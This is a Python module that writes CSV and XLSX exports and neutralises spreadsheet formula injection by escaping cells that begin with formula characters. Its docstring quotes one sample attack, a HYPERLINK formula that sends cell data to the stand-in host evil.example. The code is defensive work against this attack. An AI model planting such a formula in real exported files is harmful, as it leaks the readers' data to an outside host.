"""The one writer for CSV and XLSX files govtool hands out.

Spreadsheet programs run a cell that starts with `=`, `+`, `-` or `@` (and, after a tab or carriage
return, likewise) as a formula: a catalogue title `=HYPERLINK("http://evil.example/?x="&A2, …)`
would send a reviewer's data elsewhere. So text cells are neutralised: in CSV such a cell gets a
leading apostrophe (read back by `restore`), in XLSX every text cell is stored as a string, never
as a formula. Numbers, dates and booleans keep their type.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import Any

from openpyxl import Workbook
from openpyxl.cell.cell import TYPE_STRING

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_TYPED = (int, float, Decimal, dt.date, dt.datetime, dt.time)


def neutralise(value: Any) -> Any:
    """A CSV cell value that no spreadsheet runs as a formula (text gets a leading apostrophe)."""
    if value is None:
        return ""
    if isinstance(value, _TYPED):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def restore(value: str) -> str:
    """The text `neutralise` was given: drops the apostrophe it added (for re-import)."""
    if value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


def to_csv(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> bytes:
    """UTF-8 CSV with a BOM (so Excel reads the umlauts), CRLF line ends, formulas neutralised."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([neutralise(v) for v in header])
    for row in rows:
        writer.writerow([neutralise(v) for v in row])
    return ("\ufeff" + out.getvalue()).encode("utf-8")


def to_xlsx(
    header: Sequence[str], rows: Iterable[Sequence[Any]], *, sheet_title: str = "Export"
) -> bytes:
    """An XLSX workbook with one sheet; text is always a string cell, never a formula."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = sheet_title[:31]
    for row_number, values in enumerate([header, *rows], start=1):
        for column, value in enumerate(values, start=1):
            cell = sheet.cell(row=row_number, column=column)
            if value is None:
                continue
            if isinstance(value, _TYPED) and not isinstance(value, bool):
                cell.value = value
            else:
                text = str(value)
                cell.value = text
                cell.data_type = TYPE_STRING  # openpyxl would make "=…" a formula
                if text.startswith(FORMULA_STARTS):
                    cell.quotePrefix = True  # Excel keeps it text when the cell is edited
    sheet.freeze_panes = "A2"
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()
